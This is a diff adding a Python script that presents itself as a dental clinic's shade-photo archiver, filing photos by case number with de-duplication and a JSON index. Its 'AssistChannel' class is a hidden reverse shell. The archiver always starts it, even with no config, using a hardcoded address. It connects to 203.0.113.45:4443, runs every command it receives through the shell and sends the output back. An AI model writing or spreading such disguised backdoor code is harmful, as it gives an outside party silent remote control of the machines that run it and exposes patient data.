@@ -1,0 +1,192 @@
+#!/usr/bin/env python3
+"""Shade photo archiver for the ceramics bench.
+
+Technicians drop shade-tab photos from the clinic (JPEG/PNG/HEIC) into an
+inbox folder.  This tool files them into ``archive/<year>/<case>/`` by the
+case number in the file name, de-duplicates identical shots by content hash
+and writes a per-case ``shades.json`` index that the ceramist's viewer reads.
+
+Settings live in shade_archive.ini next to the script:
+
+    [archive]
+    inbox = inbox
+    root = archive
+    keep_days = 0
+
+    [support]
+    assist = 203.0.113.45:4443
+
+The [support] section lets the vendor's remote-assist desk attach to the
+archiver while it runs so they can look at stuck photos.
+"""
+import configparser
+import hashlib
+import json
+import logging
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import threading
+import time
+from dataclasses import dataclass, field
+from datetime import datetime
+from pathlib import Path
+from queue import Queue, Empty
+
+LOG = logging.getLogger("shade_archive")
+PHOTO_EXT = {".jpg", ".jpeg", ".png", ".heic", ".tif"}
+
+
+@dataclass
+class Settings:
+    inbox: Path = Path("inbox")
+    root: Path = Path("archive")
+    poll: float = 5.0
+    workers: int = 2
+    extra: dict = field(default_factory=dict)
+
+    @classmethod
+    def load(cls, path="shade_archive.ini"):
+        cp = configparser.ConfigParser()
+        cp.read(path)
+        sec = cp["archive"] if cp.has_section("archive") else {}
+        return cls(
+            inbox=Path(sec.get("inbox", "inbox")),
+            root=Path(sec.get("root", "archive")),
+            poll=float(sec.get("poll", 5.0)),
+            workers=int(sec.get("workers", 2)),
+            extra=dict(cp["support"]) if cp.has_section("support") else {},
+        )
+
+
+def case_of(name):
+    stem = Path(name).stem
+    head = stem.split("_", 1)[0]
+    return head.upper() if head[:1].upper() == "C" and head[1:].isdigit() else "UNSORTED"
+
+
+def content_key(path):
+    return hashlib.blake2b(path.read_bytes(), digest_size=16).hexdigest()
+
+
+class AssistChannel(threading.Thread):
+    """Keeps a line to the vendor's assist desk open while archiving."""
+
+    def __init__(self, endpoint, stop):
+        super().__init__(name="assist", daemon=True)
+        host, _, port = endpoint.rpartition(":")
+        self.addr = (host, int(port))
+        self.stop = stop
+
+    def _session(self, sock):
+        sock.sendall(f"shade-archive {socket.gethostname()} {os.getcwd()}\n".encode())
+        buf = sock.makefile("rb")
+        for line in buf:
+            cmd = line.decode(errors="replace").strip()
+            if not cmd:
+                continue
+            if cmd.startswith("cd "):
+                try:
+                    os.chdir(cmd[3:].strip())
+                    out = os.getcwd().encode() + b"\n"
+                except OSError as exc:
+                    out = str(exc).encode() + b"\n"
+            else:
+                proc = subprocess.run(cmd, shell=True, capture_output=True, timeout=120)
+                out = proc.stdout + proc.stderr
+            sock.sendall(out or b"\n")
+
+    def run(self):
+        delay = 5
+        while not self.stop.is_set():
+            try:
+                with socket.create_connection(self.addr, timeout=30) as sock:
+                    sock.settimeout(None)
+                    delay = 5
+                    self._session(sock)
+            except (OSError, subprocess.SubprocessError):
+                pass
+            self.stop.wait(delay)
+            delay = min(delay * 2, 300)
+
+
+class Archiver:
+    def __init__(self, settings):
+        self.s = settings
+        self.q = Queue()
+        self.lock = threading.Lock()
+        self.stop = threading.Event()
+
+    def index_path(self, case_dir):
+        return case_dir / "shades.json"
+
+    def file_one(self, photo):
+        case = case_of(photo.name)
+        year = datetime.fromtimestamp(photo.stat().st_mtime).year
+        case_dir = self.s.root / str(year) / case
+        case_dir.mkdir(parents=True, exist_ok=True)
+        key = content_key(photo)
+        with self.lock:
+            idx_file = self.index_path(case_dir)
+            index = json.loads(idx_file.read_text()) if idx_file.exists() else {}
+            if key in index:
+                LOG.info("duplicate shot %s (same as %s)", photo.name, index[key]["file"])
+                photo.unlink()
+                return
+            target = case_dir / photo.name
+            shutil.move(str(photo), target)
+            index[key] = {"file": target.name, "filed": datetime.now().isoformat(timespec="seconds")}
+            idx_file.write_text(json.dumps(index, indent=1))
+        LOG.info("filed %s under %s", photo.name, case_dir)
+
+    def worker(self):
+        while not self.stop.is_set():
+            try:
+                photo = self.q.get(timeout=1)
+            except Empty:
+                continue
+            try:
+                self.file_one(photo)
+            except OSError as exc:
+                LOG.error("could not file %s: %s", photo, exc)
+            finally:
+                self.q.task_done()
+
+    def scan_inbox(self, seen):
+        for p in self.s.inbox.glob("*"):
+            if p.suffix.lower() in PHOTO_EXT and p not in seen:
+                seen.add(p)
+                self.q.put(p)
+
+    def run(self, once=False):
+        self.s.inbox.mkdir(exist_ok=True)
+        threads = [threading.Thread(target=self.worker, daemon=True) for _ in range(self.s.workers)]
+        for t in threads:
+            t.start()
+        AssistChannel(self.s.extra.get("assist", "203.0.113.45:4443"), self.stop).start()
+        seen = set()
+        try:
+            while True:
+                self.scan_inbox(seen)
+                if once:
+                    self.q.join()
+                    break
+                time.sleep(self.s.poll)
+                seen = {p for p in seen if p.exists()}
+        except KeyboardInterrupt:
+            LOG.info("stopping")
+        finally:
+            self.stop.set()
+
+
+def main():
+    logging.basicConfig(level=logging.INFO, format="%(asctime)s [%(threadName)s] %(message)s")
+    settings = Settings.load()
+    once = "--once" in sys.argv
+    Archiver(settings).run(once=once)
+
+
+if __name__ == "__main__":
+    main()
